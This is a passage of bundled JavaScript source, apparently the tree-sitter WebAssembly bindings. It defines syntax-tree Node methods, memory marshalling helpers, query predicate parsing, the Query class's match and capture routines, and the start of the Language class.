    return C._ts_node_descendant_count_wasm(this.tree[0]);
  }
  /**
   * Get this node's immediate parent.
   * Prefer {@link Node#childWithDescendant} for iterating over this node's ancestors.
   */
  get parent() {
    marshalNode(this);
    C._ts_node_parent_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Get the node that contains `descendant`.
   *
   * Note that this can return `descendant` itself.
   */
  childWithDescendant(descendant) {
    marshalNode(this);
    marshalNode(descendant, 1);
    C._ts_node_child_with_descendant_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest node within this node that spans the given byte range. */
  descendantForIndex(start2, end = start2) {
    if (typeof start2 !== "number" || typeof end !== "number") {
      throw new Error("Arguments must be numbers");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, start2, "i32");
    C.setValue(address + SIZE_OF_INT, end, "i32");
    C._ts_node_descendant_for_index_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest named node within this node that spans the given byte range. */
  namedDescendantForIndex(start2, end = start2) {
    if (typeof start2 !== "number" || typeof end !== "number") {
      throw new Error("Arguments must be numbers");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    C.setValue(address, start2, "i32");
    C.setValue(address + SIZE_OF_INT, end, "i32");
    C._ts_node_named_descendant_for_index_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest node within this node that spans the given point range. */
  descendantForPosition(start2, end = start2) {
    if (!isPoint(start2) || !isPoint(end)) {
      throw new Error("Arguments must be {row, column} objects");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    marshalPoint(address, start2);
    marshalPoint(address + SIZE_OF_POINT, end);
    C._ts_node_descendant_for_position_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /** Get the smallest named node within this node that spans the given point range. */
  namedDescendantForPosition(start2, end = start2) {
    if (!isPoint(start2) || !isPoint(end)) {
      throw new Error("Arguments must be {row, column} objects");
    }
    marshalNode(this);
    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
    marshalPoint(address, start2);
    marshalPoint(address + SIZE_OF_POINT, end);
    C._ts_node_named_descendant_for_position_wasm(this.tree[0]);
    return unmarshalNode(this.tree);
  }
  /**
   * Create a new {@link TreeCursor} starting from this node.
   *
   * Note that the given node is considered the root of the cursor,
   * and the cursor cannot walk outside this node.
   */
  walk() {
    marshalNode(this);
    C._ts_tree_cursor_new_wasm(this.tree[0]);
    return new TreeCursor(INTERNAL, this.tree);
  }
  /**
   * Edit this node to keep it in-sync with source code that has been edited.
   *
   * This function is only rarely needed. When you edit a syntax tree with
   * the {@link Tree#edit} method, all of the nodes that you retrieve from
   * the tree afterward will already reflect the edit. You only need to
   * use {@link Node#edit} when you have a specific {@link Node} instance that
   * you want to keep and continue to use after an edit.
   */
  edit(edit) {
    if (this.startIndex >= edit.oldEndIndex) {
      this.startIndex = edit.newEndIndex + (this.startIndex - edit.oldEndIndex);
      let subbedPointRow;
      let subbedPointColumn;
      if (this.startPosition.row > edit.oldEndPosition.row) {
        subbedPointRow = this.startPosition.row - edit.oldEndPosition.row;
        subbedPointColumn = this.startPosition.column;
      } else {
        subbedPointRow = 0;
        subbedPointColumn = this.startPosition.column;
        if (this.startPosition.column >= edit.oldEndPosition.column) {
          subbedPointColumn = this.startPosition.column - edit.oldEndPosition.column;
        }
      }
      if (subbedPointRow > 0) {
        this.startPosition.row += subbedPointRow;
        this.startPosition.column = subbedPointColumn;
      } else {
        this.startPosition.column += subbedPointColumn;
      }
    } else if (this.startIndex > edit.startIndex) {
      this.startIndex = edit.newEndIndex;
      this.startPosition.row = edit.newEndPosition.row;
      this.startPosition.column = edit.newEndPosition.column;
    }
  }
  /** Get the S-expression representation of this node. */
  toString() {
    marshalNode(this);
    const address = C._ts_node_to_string_wasm(this.tree[0]);
    const result2 = C.AsciiToString(address);
    C._free(address);
    return result2;
  }
};
function unmarshalCaptures(query, tree, address, patternIndex, result2) {
  for (let i2 = 0, n = result2.length; i2 < n; i2++) {
    const captureIndex = C.getValue(address, "i32");
    address += SIZE_OF_INT;
    const node = unmarshalNode(tree, address);
    address += SIZE_OF_NODE;
    result2[i2] = { patternIndex, name: query.captureNames[captureIndex], node };
  }
  return address;
}
__name(unmarshalCaptures, "unmarshalCaptures");
function marshalNode(node, index = 0) {
  let address = TRANSFER_BUFFER + index * SIZE_OF_NODE;
  C.setValue(address, node.id, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node.startIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node.startPosition.row, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node.startPosition.column, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, node[0], "i32");
}
__name(marshalNode, "marshalNode");
function unmarshalNode(tree, address = TRANSFER_BUFFER) {
  const id = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  if (id === 0) return null;
  const index = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  const row = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  const column = C.getValue(address, "i32");
  address += SIZE_OF_INT;
  const other = C.getValue(address, "i32");
  const result2 = new Node(INTERNAL, {
    id,
    tree,
    startIndex: index,
    startPosition: { row, column },
    other
  });
  return result2;
}
__name(unmarshalNode, "unmarshalNode");
function marshalTreeCursor(cursor, address = TRANSFER_BUFFER) {
  C.setValue(address + 0 * SIZE_OF_INT, cursor[0], "i32");
  C.setValue(address + 1 * SIZE_OF_INT, cursor[1], "i32");
  C.setValue(address + 2 * SIZE_OF_INT, cursor[2], "i32");
  C.setValue(address + 3 * SIZE_OF_INT, cursor[3], "i32");
}
__name(marshalTreeCursor, "marshalTreeCursor");
function unmarshalTreeCursor(cursor) {
  cursor[0] = C.getValue(TRANSFER_BUFFER + 0 * SIZE_OF_INT, "i32");
  cursor[1] = C.getValue(TRANSFER_BUFFER + 1 * SIZE_OF_INT, "i32");
  cursor[2] = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
  cursor[3] = C.getValue(TRANSFER_BUFFER + 3 * SIZE_OF_INT, "i32");
}
__name(unmarshalTreeCursor, "unmarshalTreeCursor");
function marshalPoint(address, point) {
  C.setValue(address, point.row, "i32");
  C.setValue(address + SIZE_OF_INT, point.column, "i32");
}
__name(marshalPoint, "marshalPoint");
function unmarshalPoint(address) {
  const result2 = {
    row: C.getValue(address, "i32") >>> 0,
    column: C.getValue(address + SIZE_OF_INT, "i32") >>> 0
  };
  return result2;
}
__name(unmarshalPoint, "unmarshalPoint");
function marshalRange(address, range) {
  marshalPoint(address, range.startPosition);
  address += SIZE_OF_POINT;
  marshalPoint(address, range.endPosition);
  address += SIZE_OF_POINT;
  C.setValue(address, range.startIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, range.endIndex, "i32");
  address += SIZE_OF_INT;
}
__name(marshalRange, "marshalRange");
function unmarshalRange(address) {
  const result2 = {};
  result2.startPosition = unmarshalPoint(address);
  address += SIZE_OF_POINT;
  result2.endPosition = unmarshalPoint(address);
  address += SIZE_OF_POINT;
  result2.startIndex = C.getValue(address, "i32") >>> 0;
  address += SIZE_OF_INT;
  result2.endIndex = C.getValue(address, "i32") >>> 0;
  return result2;
}
__name(unmarshalRange, "unmarshalRange");
function marshalEdit(edit, address = TRANSFER_BUFFER) {
  marshalPoint(address, edit.startPosition);
  address += SIZE_OF_POINT;
  marshalPoint(address, edit.oldEndPosition);
  address += SIZE_OF_POINT;
  marshalPoint(address, edit.newEndPosition);
  address += SIZE_OF_POINT;
  C.setValue(address, edit.startIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, edit.oldEndIndex, "i32");
  address += SIZE_OF_INT;
  C.setValue(address, edit.newEndIndex, "i32");
  address += SIZE_OF_INT;
}
__name(marshalEdit, "marshalEdit");
function unmarshalLanguageMetadata(address) {
  const major_version = C.getValue(address, "i32");
  const minor_version = C.getValue(address += SIZE_OF_INT, "i32");
  const patch_version = C.getValue(address += SIZE_OF_INT, "i32");
  return { major_version, minor_version, patch_version };
}
__name(unmarshalLanguageMetadata, "unmarshalLanguageMetadata");
var PREDICATE_STEP_TYPE_CAPTURE = 1;
var PREDICATE_STEP_TYPE_STRING = 2;
var QUERY_WORD_REGEX = /[\w-]+/g;
var CaptureQuantifier = {
  Zero: 0,
  ZeroOrOne: 1,
  ZeroOrMore: 2,
  One: 3,
  OneOrMore: 4
};
var isCaptureStep = /* @__PURE__ */ __name((step) => step.type === "capture", "isCaptureStep");
var isStringStep = /* @__PURE__ */ __name((step) => step.type === "string", "isStringStep");
var QueryErrorKind = {
  Syntax: 1,
  NodeName: 2,
  FieldName: 3,
  CaptureName: 4,
  PatternStructure: 5
};
var QueryError = class _QueryError extends Error {
  constructor(kind, info2, index, length) {
    super(_QueryError.formatMessage(kind, info2));
    this.kind = kind;
    this.info = info2;
    this.index = index;
    this.length = length;
    this.name = "QueryError";
  }
  static {
    __name(this, "QueryError");
  }
  /** Formats an error message based on the error kind and info */
  static formatMessage(kind, info2) {
    switch (kind) {
      case QueryErrorKind.NodeName:
        return `Bad node name '${info2.word}'`;
      case QueryErrorKind.FieldName:
        return `Bad field name '${info2.word}'`;
      case QueryErrorKind.CaptureName:
        return `Bad capture name @${info2.word}`;
      case QueryErrorKind.PatternStructure:
        return `Bad pattern structure at offset ${info2.suffix}`;
      case QueryErrorKind.Syntax:
        return `Bad syntax at offset ${info2.suffix}`;
    }
  }
};
function parseAnyPredicate(steps, index, operator, textPredicates) {
  if (steps.length !== 3) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}`
    );
  }
  if (!isCaptureStep(steps[1])) {
    throw new Error(
      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}"`
    );
  }
  const isPositive = operator === "eq?" || operator === "any-eq?";
  const matchAll = !operator.startsWith("any-");
  if (isCaptureStep(steps[2])) {
    const captureName1 = steps[1].name;
    const captureName2 = steps[2].name;
    textPredicates[index].push((captures) => {
      const nodes1 = [];
      const nodes2 = [];
      for (const c of captures) {
        if (c.name === captureName1) nodes1.push(c.node);
        if (c.name === captureName2) nodes2.push(c.node);
      }
      const compare = /* @__PURE__ */ __name((n1, n2, positive2) => {
        return positive2 ? n1.text === n2.text : n1.text !== n2.text;
      }, "compare");
      return matchAll ? nodes1.every((n1) => nodes2.some((n2) => compare(n1, n2, isPositive))) : nodes1.some((n1) => nodes2.some((n2) => compare(n1, n2, isPositive)));
    });
  } else {
    const captureName = steps[1].name;
    const stringValue = steps[2].value;
    const matches = /* @__PURE__ */ __name((n) => n.text === stringValue, "matches");
    const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue, "doesNotMatch");
    textPredicates[index].push((captures) => {
      const nodes = [];
      for (const c of captures) {
        if (c.name === captureName) nodes.push(c.node);
      }
      const test = isPositive ? matches : doesNotMatch;
      return matchAll ? nodes.every(test) : nodes.some(test);
    });
  }
}
__name(parseAnyPredicate, "parseAnyPredicate");
function parseMatchPredicate(steps, index, operator, textPredicates) {
  if (steps.length !== 3) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected 2, got ${steps.length - 1}.`
    );
  }
  if (steps[1].type !== "capture") {
    throw new Error(
      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
    );
  }
  if (steps[2].type !== "string") {
    throw new Error(
      `Second argument of \`#${operator}\` predicate must be a string. Got @${steps[2].name}.`
    );
  }
  const isPositive = operator === "match?" || operator === "any-match?";
  const matchAll = !operator.startsWith("any-");
  const captureName = steps[1].name;
  const regex2 = new RegExp(steps[2].value);
  textPredicates[index].push((captures) => {
    const nodes = [];
    for (const c of captures) {
      if (c.name === captureName) nodes.push(c.node.text);
    }
    const test = /* @__PURE__ */ __name((text, positive2) => {
      return positive2 ? regex2.test(text) : !regex2.test(text);
    }, "test");
    if (nodes.length === 0) return !isPositive;
    return matchAll ? nodes.every((text) => test(text, isPositive)) : nodes.some((text) => test(text, isPositive));
  });
}
__name(parseMatchPredicate, "parseMatchPredicate");
function parseAnyOfPredicate(steps, index, operator, textPredicates) {
  if (steps.length < 2) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected at least 1. Got ${steps.length - 1}.`
    );
  }
  if (steps[1].type !== "capture") {
    throw new Error(
      `First argument of \`#${operator}\` predicate must be a capture. Got "${steps[1].value}".`
    );
  }
  const isPositive = operator === "any-of?";
  const captureName = steps[1].name;
  const stringSteps = steps.slice(2);
  if (!stringSteps.every(isStringStep)) {
    throw new Error(
      `Arguments to \`#${operator}\` predicate must be strings.".`
    );
  }
  const values = stringSteps.map((s) => s.value);
  textPredicates[index].push((captures) => {
    const nodes = [];
    for (const c of captures) {
      if (c.name === captureName) nodes.push(c.node.text);
    }
    if (nodes.length === 0) return !isPositive;
    return nodes.every((text) => values.includes(text)) === isPositive;
  });
}
__name(parseAnyOfPredicate, "parseAnyOfPredicate");
function parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties) {
  if (steps.length < 2 || steps.length > 3) {
    throw new Error(
      `Wrong number of arguments to \`#${operator}\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`
    );
  }
  if (!steps.every(isStringStep)) {
    throw new Error(
      `Arguments to \`#${operator}\` predicate must be strings.".`
    );
  }
  const properties = operator === "is?" ? assertedProperties : refutedProperties;
  if (!properties[index]) properties[index] = {};
  properties[index][steps[1].value] = steps[2]?.value ?? null;
}
__name(parseIsPredicate, "parseIsPredicate");
function parseSetDirective(steps, index, setProperties) {
  if (steps.length < 2 || steps.length > 3) {
    throw new Error(`Wrong number of arguments to \`#set!\` predicate. Expected 1 or 2. Got ${steps.length - 1}.`);
  }
  if (!steps.every(isStringStep)) {
    throw new Error(`Arguments to \`#set!\` predicate must be strings.".`);
  }
  if (!setProperties[index]) setProperties[index] = {};
  setProperties[index][steps[1].value] = steps[2]?.value ?? null;
}
__name(parseSetDirective, "parseSetDirective");
function parsePattern(index, stepType, stepValueId, captureNames, stringValues, steps, textPredicates, predicates, setProperties, assertedProperties, refutedProperties) {
  if (stepType === PREDICATE_STEP_TYPE_CAPTURE) {
    const name2 = captureNames[stepValueId];
    steps.push({ type: "capture", name: name2 });
  } else if (stepType === PREDICATE_STEP_TYPE_STRING) {
    steps.push({ type: "string", value: stringValues[stepValueId] });
  } else if (steps.length > 0) {
    if (steps[0].type !== "string") {
      throw new Error("Predicates must begin with a literal value");
    }
    const operator = steps[0].value;
    switch (operator) {
      case "any-not-eq?":
      case "not-eq?":
      case "any-eq?":
      case "eq?":
        parseAnyPredicate(steps, index, operator, textPredicates);
        break;
      case "any-not-match?":
      case "not-match?":
      case "any-match?":
      case "match?":
        parseMatchPredicate(steps, index, operator, textPredicates);
        break;
      case "not-any-of?":
      case "any-of?":
        parseAnyOfPredicate(steps, index, operator, textPredicates);
        break;
      case "is?":
      case "is-not?":
        parseIsPredicate(steps, index, operator, assertedProperties, refutedProperties);
        break;
      case "set!":
        parseSetDirective(steps, index, setProperties);
        break;
      default:
        predicates[index].push({ operator, operands: steps.slice(1) });
    }
    steps.length = 0;
  }
}
__name(parsePattern, "parsePattern");
var Query = class {
  static {
    __name(this, "Query");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /** @internal */
  exceededMatchLimit;
  /** @internal */
  textPredicates;
  /** The names of the captures used in the query. */
  captureNames;
  /** The quantifiers of the captures used in the query. */
  captureQuantifiers;
  /**
   * The other user-defined predicates associated with the given index.
   *
   * This includes predicates with operators other than:
   * - `match?`
   * - `eq?` and `not-eq?`
   * - `any-of?` and `not-any-of?`
   * - `is?` and `is-not?`
   * - `set!`
   */
  predicates;
  /** The properties for predicates with the operator `set!`. */
  setProperties;
  /** The properties for predicates with the operator `is?`. */
  assertedProperties;
  /** The properties for predicates with the operator `is-not?`. */
  refutedProperties;
  /** The maximum number of in-progress matches for this cursor. */
  matchLimit;
  /**
   * Create a new query from a string containing one or more S-expression
   * patterns.
   *
   * The query is associated with a particular language, and can only be run
   * on syntax nodes parsed with that language. References to Queries can be
   * shared between multiple threads.
   *
   * @link {@see https://tree-sitter.github.io/tree-sitter/using-parsers/queries}
   */
  constructor(language, source) {
    const sourceLength = C.lengthBytesUTF8(source);
    const sourceAddress = C._malloc(sourceLength + 1);
    C.stringToUTF8(source, sourceAddress, sourceLength + 1);
    const address = C._ts_query_new(
      language[0],
      sourceAddress,
      sourceLength,
      TRANSFER_BUFFER,
      TRANSFER_BUFFER + SIZE_OF_INT
    );
    if (!address) {
      const errorId = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
      const errorByte = C.getValue(TRANSFER_BUFFER, "i32");
      const errorIndex = C.UTF8ToString(sourceAddress, errorByte).length;
      const suffix = source.slice(errorIndex, errorIndex + 100).split("\n")[0];
      const word = suffix.match(QUERY_WORD_REGEX)?.[0] ?? "";
      C._free(sourceAddress);
      switch (errorId) {
        case QueryErrorKind.Syntax:
          throw new QueryError(QueryErrorKind.Syntax, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
        case QueryErrorKind.NodeName:
          throw new QueryError(errorId, { word }, errorIndex, word.length);
        case QueryErrorKind.FieldName:
          throw new QueryError(errorId, { word }, errorIndex, word.length);
        case QueryErrorKind.CaptureName:
          throw new QueryError(errorId, { word }, errorIndex, word.length);
        case QueryErrorKind.PatternStructure:
          throw new QueryError(errorId, { suffix: `${errorIndex}: '${suffix}'...` }, errorIndex, 0);
      }
    }
    const stringCount = C._ts_query_string_count(address);
    const captureCount = C._ts_query_capture_count(address);
    const patternCount = C._ts_query_pattern_count(address);
    const captureNames = new Array(captureCount);
    const captureQuantifiers = new Array(patternCount);
    const stringValues = new Array(stringCount);
    for (let i2 = 0; i2 < captureCount; i2++) {
      const nameAddress = C._ts_query_capture_name_for_id(
        address,
        i2,
        TRANSFER_BUFFER
      );
      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
      captureNames[i2] = C.UTF8ToString(nameAddress, nameLength);
    }
    for (let i2 = 0; i2 < patternCount; i2++) {
      const captureQuantifiersArray = new Array(captureCount);
      for (let j = 0; j < captureCount; j++) {
        const quantifier = C._ts_query_capture_quantifier_for_id(address, i2, j);
        captureQuantifiersArray[j] = quantifier;
      }
      captureQuantifiers[i2] = captureQuantifiersArray;
    }
    for (let i2 = 0; i2 < stringCount; i2++) {
      const valueAddress = C._ts_query_string_value_for_id(
        address,
        i2,
        TRANSFER_BUFFER
      );
      const nameLength = C.getValue(TRANSFER_BUFFER, "i32");
      stringValues[i2] = C.UTF8ToString(valueAddress, nameLength);
    }
    const setProperties = new Array(patternCount);
    const assertedProperties = new Array(patternCount);
    const refutedProperties = new Array(patternCount);
    const predicates = new Array(patternCount);
    const textPredicates = new Array(patternCount);
    for (let i2 = 0; i2 < patternCount; i2++) {
      const predicatesAddress = C._ts_query_predicates_for_pattern(address, i2, TRANSFER_BUFFER);
      const stepCount = C.getValue(TRANSFER_BUFFER, "i32");
      predicates[i2] = [];
      textPredicates[i2] = [];
      const steps = new Array();
      let stepAddress = predicatesAddress;
      for (let j = 0; j < stepCount; j++) {
        const stepType = C.getValue(stepAddress, "i32");
        stepAddress += SIZE_OF_INT;
        const stepValueId = C.getValue(stepAddress, "i32");
        stepAddress += SIZE_OF_INT;
        parsePattern(
          i2,
          stepType,
          stepValueId,
          captureNames,
          stringValues,
          steps,
          textPredicates,
          predicates,
          setProperties,
          assertedProperties,
          refutedProperties
        );
      }
      Object.freeze(textPredicates[i2]);
      Object.freeze(predicates[i2]);
      Object.freeze(setProperties[i2]);
      Object.freeze(assertedProperties[i2]);
      Object.freeze(refutedProperties[i2]);
    }
    C._free(sourceAddress);
    this[0] = address;
    this.captureNames = captureNames;
    this.captureQuantifiers = captureQuantifiers;
    this.textPredicates = textPredicates;
    this.predicates = predicates;
    this.setProperties = setProperties;
    this.assertedProperties = assertedProperties;
    this.refutedProperties = refutedProperties;
    this.exceededMatchLimit = false;
  }
  /** Delete the query, freeing its resources. */
  delete() {
    C._ts_query_delete(this[0]);
    this[0] = 0;
  }
  /**
   * Iterate over all of the matches in the order that they were found.
   *
   * Each match contains the index of the pattern that matched, and a list of
   * captures. Because multiple patterns can match the same set of nodes,
   * one match may contain captures that appear *before* some of the
   * captures from a previous match.
   *
   * @param {Node} node - The node to execute the query on.
   *
   * @param {QueryOptions} options - Options for query execution.
   */
  matches(node, options = {}) {
    const startPosition = options.startPosition ?? ZERO_POINT;
    const endPosition = options.endPosition ?? ZERO_POINT;
    const startIndex = options.startIndex ?? 0;
    const endIndex = options.endIndex ?? 0;
    const matchLimit = options.matchLimit ?? 4294967295;
    const maxStartDepth = options.maxStartDepth ?? 4294967295;
    const timeoutMicros = options.timeoutMicros ?? 0;
    const progressCallback = options.progressCallback;
    if (typeof matchLimit !== "number") {
      throw new Error("Arguments must be numbers");
    }
    this.matchLimit = matchLimit;
    if (endIndex !== 0 && startIndex > endIndex) {
      throw new Error("`startIndex` cannot be greater than `endIndex`");
    }
    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
      throw new Error("`startPosition` cannot be greater than `endPosition`");
    }
    if (progressCallback) {
      C.currentQueryProgressCallback = progressCallback;
    }
    marshalNode(node);
    C._ts_query_matches_wasm(
      this[0],
      node.tree[0],
      startPosition.row,
      startPosition.column,
      endPosition.row,
      endPosition.column,
      startIndex,
      endIndex,
      matchLimit,
      maxStartDepth,
      timeoutMicros
    );
    const rawCount = C.getValue(TRANSFER_BUFFER, "i32");
    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
    const result2 = new Array(rawCount);
    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
    let filteredCount = 0;
    let address = startAddress;
    for (let i2 = 0; i2 < rawCount; i2++) {
      const patternIndex = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captureCount = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captures = new Array(captureCount);
      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
        result2[filteredCount] = { pattern: patternIndex, patternIndex, captures };
        const setProperties = this.setProperties[patternIndex];
        result2[filteredCount].setProperties = setProperties;
        const assertedProperties = this.assertedProperties[patternIndex];
        result2[filteredCount].assertedProperties = assertedProperties;
        const refutedProperties = this.refutedProperties[patternIndex];
        result2[filteredCount].refutedProperties = refutedProperties;
        filteredCount++;
      }
    }
    result2.length = filteredCount;
    C._free(startAddress);
    C.currentQueryProgressCallback = null;
    return result2;
  }
  /**
   * Iterate over all of the individual captures in the order that they
   * appear.
   *
   * This is useful if you don't care about which pattern matched, and just
   * want a single, ordered sequence of captures.
   *
   * @param {Node} node - The node to execute the query on.
   *
   * @param {QueryOptions} options - Options for query execution.
   */
  captures(node, options = {}) {
    const startPosition = options.startPosition ?? ZERO_POINT;
    const endPosition = options.endPosition ?? ZERO_POINT;
    const startIndex = options.startIndex ?? 0;
    const endIndex = options.endIndex ?? 0;
    const matchLimit = options.matchLimit ?? 4294967295;
    const maxStartDepth = options.maxStartDepth ?? 4294967295;
    const timeoutMicros = options.timeoutMicros ?? 0;
    const progressCallback = options.progressCallback;
    if (typeof matchLimit !== "number") {
      throw new Error("Arguments must be numbers");
    }
    this.matchLimit = matchLimit;
    if (endIndex !== 0 && startIndex > endIndex) {
      throw new Error("`startIndex` cannot be greater than `endIndex`");
    }
    if (endPosition !== ZERO_POINT && (startPosition.row > endPosition.row || startPosition.row === endPosition.row && startPosition.column > endPosition.column)) {
      throw new Error("`startPosition` cannot be greater than `endPosition`");
    }
    if (progressCallback) {
      C.currentQueryProgressCallback = progressCallback;
    }
    marshalNode(node);
    C._ts_query_captures_wasm(
      this[0],
      node.tree[0],
      startPosition.row,
      startPosition.column,
      endPosition.row,
      endPosition.column,
      startIndex,
      endIndex,
      matchLimit,
      maxStartDepth,
      timeoutMicros
    );
    const count = C.getValue(TRANSFER_BUFFER, "i32");
    const startAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    const didExceedMatchLimit = C.getValue(TRANSFER_BUFFER + 2 * SIZE_OF_INT, "i32");
    const result2 = new Array();
    this.exceededMatchLimit = Boolean(didExceedMatchLimit);
    const captures = new Array();
    let address = startAddress;
    for (let i2 = 0; i2 < count; i2++) {
      const patternIndex = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captureCount = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      const captureIndex = C.getValue(address, "i32");
      address += SIZE_OF_INT;
      captures.length = captureCount;
      address = unmarshalCaptures(this, node.tree, address, patternIndex, captures);
      if (this.textPredicates[patternIndex].every((p) => p(captures))) {
        const capture = captures[captureIndex];
        const setProperties = this.setProperties[patternIndex];
        capture.setProperties = setProperties;
        const assertedProperties = this.assertedProperties[patternIndex];
        capture.assertedProperties = assertedProperties;
        const refutedProperties = this.refutedProperties[patternIndex];
        capture.refutedProperties = refutedProperties;
        result2.push(capture);
      }
    }
    C._free(startAddress);
    C.currentQueryProgressCallback = null;
    return result2;
  }
  /** Get the predicates for a given pattern. */
  predicatesForPattern(patternIndex) {
    return this.predicates[patternIndex];
  }
  /**
   * Disable a certain capture within a query.
   *
   * This prevents the capture from being returned in matches, and also
   * avoids any resource usage associated with recording the capture.
   */
  disableCapture(captureName) {
    const captureNameLength = C.lengthBytesUTF8(captureName);
    const captureNameAddress = C._malloc(captureNameLength + 1);
    C.stringToUTF8(captureName, captureNameAddress, captureNameLength + 1);
    C._ts_query_disable_capture(this[0], captureNameAddress, captureNameLength);
    C._free(captureNameAddress);
  }
  /**
   * Disable a certain pattern within a query.
   *
   * This prevents the pattern from matching, and also avoids any resource
   * usage associated with the pattern. This throws an error if the pattern
   * index is out of bounds.
   */
  disablePattern(patternIndex) {
    if (patternIndex >= this.predicates.length) {
      throw new Error(
        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
      );
    }
    C._ts_query_disable_pattern(this[0], patternIndex);
  }
  /**
   * Check if, on its last execution, this cursor exceeded its maximum number
   * of in-progress matches.
   */
  didExceedMatchLimit() {
    return this.exceededMatchLimit;
  }
  /** Get the byte offset where the given pattern starts in the query's source. */
  startIndexForPattern(patternIndex) {
    if (patternIndex >= this.predicates.length) {
      throw new Error(
        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
      );
    }
    return C._ts_query_start_byte_for_pattern(this[0], patternIndex);
  }
  /** Get the byte offset where the given pattern ends in the query's source. */
  endIndexForPattern(patternIndex) {
    if (patternIndex >= this.predicates.length) {
      throw new Error(
        `Pattern index is ${patternIndex} but the pattern count is ${this.predicates.length}`
      );
    }
    return C._ts_query_end_byte_for_pattern(this[0], patternIndex);
  }
  /** Get the number of patterns in the query. */
  patternCount() {
    return C._ts_query_pattern_count(this[0]);
  }
  /** Get the index for a given capture name. */
  captureIndexForName(captureName) {
    return this.captureNames.indexOf(captureName);
  }
  /** Check if a given pattern within a query has a single root node. */
  isPatternRooted(patternIndex) {
    return C._ts_query_is_pattern_rooted(this[0], patternIndex) === 1;
  }
  /** Check if a given pattern within a query has a single root node. */
  isPatternNonLocal(patternIndex) {
    return C._ts_query_is_pattern_non_local(this[0], patternIndex) === 1;
  }
  /**
   * Check if a given step in a query is 'definite'.
   *
   * A query step is 'definite' if its parent pattern will be guaranteed to
   * match successfully once it reaches the step.
   */
  isPatternGuaranteedAtStep(byteIndex) {
    return C._ts_query_is_pattern_guaranteed_at_step(this[0], byteIndex) === 1;
  }
};
var LANGUAGE_FUNCTION_REGEX = /^tree_sitter_\w+$/;
var Language = class _Language {
  static {
    __name(this, "Language");
  }
  /** @internal */
  [0] = 0;
  // Internal handle for WASM
  /**
   * A list of all node types in the language. The index of each type in this
   * array is its node type id.
   */
  types;
  /**
   * A list of all field names in the language. The index of each field name in
   * this array is its field id.
   */
  fields;
  /** @internal */
  constructor(internal, address) {
    assertInternal(internal);
    this[0] = address;
    this.types = new Array(C._ts_language_symbol_count(this[0]));
    for (let i2 = 0, n = this.types.length; i2 < n; i2++) {
      if (C._ts_language_symbol_type(this[0], i2) < 2) {
        this.types[i2] = C.UTF8ToString(C._ts_language_symbol_name(this[0], i2));
      }
    }
    this.fields = new Array(C._ts_language_field_count(this[0]) + 1);
    for (let i2 = 0, n = this.fields.length; i2 < n; i2++) {
      const fieldName = C._ts_language_field_name_for_id(this[0], i2);
      if (fieldName !== 0) {
        this.fields[i2] = C.UTF8ToString(fieldName);
      } else {
        this.fields[i2] = null;
      }
    }
  }
  /**
   * Gets the name of the language.
   */
  get name() {
    const ptr = C._ts_language_name(this[0]);
    if (ptr === 0) return null;
    return C.UTF8ToString(ptr);
  }
  /**
   * @deprecated since version 0.25.0, use {@link Language#abiVersion} instead
   * Gets the version of the language.
   */
  get version() {
    return C._ts_language_version(this[0]);
  }
  /**
   * Gets the ABI version of the language.
   */
  get abiVersion() {
    return C._ts_language_abi_version(this[0]);
  }
  /**
  * Get the metadata for this language. This information is generated by the
  * CLI, and relies on the language author providing the correct metadata in
  * the language's `tree-sitter.json` file.
  */
  get metadata() {
    C._ts_language_metadata(this[0]);
    const length = C.getValue(TRANSFER_BUFFER, "i32");
    const address = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
    if (length === 0) return null;
    return unmarshalLanguageMetadata(address);
  }
  /**
   * Gets the number of fields in the language.
   */
  get fieldCount() {
    return this.fields.length - 1;
  }
  /**
   * Gets the number of states in the language.
